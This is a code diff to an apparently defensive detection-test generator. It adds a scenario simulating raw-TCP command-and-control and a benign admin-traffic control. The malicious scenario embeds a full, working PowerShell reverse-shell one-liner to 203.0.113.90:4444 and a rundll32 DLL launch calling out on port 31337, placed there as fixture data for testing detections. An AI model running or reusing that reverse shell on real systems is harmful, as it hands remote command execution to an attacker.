@@ -394,6 +394,71 @@ def x2_web_c2_unusual_process(rec, t0):
                                  "resp_bytes": 38000})
 
 
+
+@scenario
+def x3_raw_tcp_reverse_shells(rec, t0):
+    """Raw TCP C2 (AN1254): a PowerShell reverse shell and a Meterpreter DLL run by rundll32,
+    each holding one long TCP session to a port no application protocol uses."""
+    host = Host("ws08.corp.example", "10.20.1.18", "windows")
+    user = "CORP\\ivan"
+    parent = _cmd_parent(rec, host, t0 - 2.0, user)
+    shell = rec.windows_process(
+        host, t0, POWERSHELL,
+        "powershell.exe -nop -w hidden -c \"$c=New-Object Net.Sockets.TCPClient('203.0.113.90',"
+        "4444);$s=$c.GetStream();[byte[]]$b=0..65535|%{0};while(($i=$s.Read($b,0,$b.Length))"
+        " -ne 0){$d=(New-Object Text.ASCIIEncoding).GetString($b,0,$i);$r=(iex $d 2>&1|"
+        "Out-String);$s.Write([Text.Encoding]::ASCII.GetBytes($r),0,$r.Length)}\"",
+        user, parent=parent)
+    rec.windows_connection(host, shell, t0 + 0.6, "tcp", "203.0.113.90", 4444,
+                           zeek={"duration": 1450.0, "orig_bytes": 182000, "resp_bytes": 9400})
+    dll = rec.windows_process(
+        host, t0 + 300, "C:\\Windows\\System32\\rundll32.exe",
+        "rundll32.exe C:\\Users\\ivan\\AppData\\Local\\Temp\\upd.dll,Start", user,
+        parent=parent)
+    rec.windows_connection(host, dll, t0 + 301.2, "tcp", "198.51.100.45", 31337,
+                           zeek={"duration": 1100.0, "orig_bytes": 96000, "resp_bytes": 240000})
+
+
+@scenario
+def benign_raw_tcp_admin(rec, t0):
+    """Scripting engines on TCP the way admins and developers use them: what a naive
+    "PowerShell/Python on TCP" rule would raise and the raw TCP signal must not. WinRM
+    remoting (5985), WMI over DCOM (135, then a dynamic RPC port on the server), SQL, a
+    Python debugger and dev server on loopback, pip over HTTPS. Internal traffic does not
+    cross the egress Zeek sensor; pip's does."""
+    ws = Host("adm21.corp.example", "10.20.1.21", "windows")
+    user = "CORP\\judy"
+    parent = _cmd_parent(rec, ws, t0, user)
+    remoting = rec.windows_process(ws, t0 + 5, POWERSHELL,
+                                   "powershell.exe -NoExit -Command Enter-PSSession -ComputerName "
+                                   "app01.corp.example", user, parent=parent)
+    rec.windows_connection(ws, remoting, t0 + 6, "tcp", "10.20.0.30", 5985)
+    wmi = rec.windows_process(ws, t0 + 60, POWERSHELL,
+                              "powershell.exe -Command \"Get-WmiObject Win32_OperatingSystem "
+                              "-ComputerName dc01.corp.example\"", user, parent=parent)
+    rec.windows_connection(ws, wmi, t0 + 61, "tcp", "10.20.0.10", 135)
+    rec.windows_connection(ws, wmi, t0 + 61.2, "tcp", "10.20.0.10", 49702)
+    sql = rec.windows_process(ws, t0 + 120, POWERSHELL,
+                              "powershell.exe -Command \"Invoke-Sqlcmd -ServerInstance sql01 "
+                              "-Query 'SELECT @@VERSION'\"", user, parent=parent)
+    rec.windows_connection(ws, sql, t0 + 121, "tcp", "10.20.0.40", 1433)
+    python = "C:\\Users\\judy\\AppData\\Local\\Programs\\Python\\Python312\\python.exe"
+    server = rec.windows_process(ws, t0 + 200, python, "python.exe -m http.server 8000", user,
+                                 parent=parent)
+    client = rec.windows_process(ws, t0 + 230, python,
+                                 "python.exe -m debugpy --connect 127.0.0.1:5678 app.py", user,
+                                 parent=parent)
+    rec.windows_connection(ws, client, t0 + 231, "tcp", "127.0.0.1", 5678, src="127.0.0.1")
+    port = rec.windows_connection(ws, client, t0 + 240, "tcp", "127.0.0.1", 8000,
+                                  src="127.0.0.1")
+    rec.windows_connection(ws, server, t0 + 240.001, "tcp", "127.0.0.1", 8000,
+                           src="127.0.0.1", src_port=port, initiated=False)
+    pip = rec.windows_process(ws, t0 + 400, python, "python.exe -m pip install requests", user,
+                              parent=parent)
+    rec.windows_connection(ws, pip, t0 + 401, "tcp", "151.101.0.223", 443,
+                           zeek={"service": "ssl", "duration": 2.5, "orig_bytes": 2100,
+                                 "resp_bytes": 640000})
+
 def build(name, seed=DEFAULT_SEED):
     """Run one scenario; returns its Recorder."""
     if name not in SCENARIOS:
